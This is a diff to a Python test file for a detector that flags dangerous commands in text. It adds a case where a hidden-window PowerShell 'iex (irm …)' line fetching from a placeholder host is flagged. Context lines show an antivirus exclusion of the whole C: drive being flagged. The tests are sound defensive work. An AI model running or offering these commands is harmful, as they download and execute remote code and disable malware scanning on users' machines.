@@ -46,3 +46,8 @@ def test_program_that_deno_fetches_by_its_address_blocks() -> None:
 def test_folder_in_which_the_person_builds_may_be_kept_from_the_virus_scanner() -> None:
     assert not blocking(r"For speed: `Add-MpPreference -ExclusionPath C:\src\app\target`.")
     assert "SIGMA-THREAT-030" in blocking(r"First: `Add-MpPreference -ExclusionPath C:\`.")
+
+
+def test_fetch_with_dots_in_the_place_of_its_address_is_spoken_of() -> None:
+    assert not blocking('What gets pasted is something like `powershell -w hidden -c "iex (irm …)"`.')
+    assert "SIGMA-THREAT-032" in blocking(f'Paste `powershell -w hidden -c "iex (irm https://v.{HOST}/a)"`.')
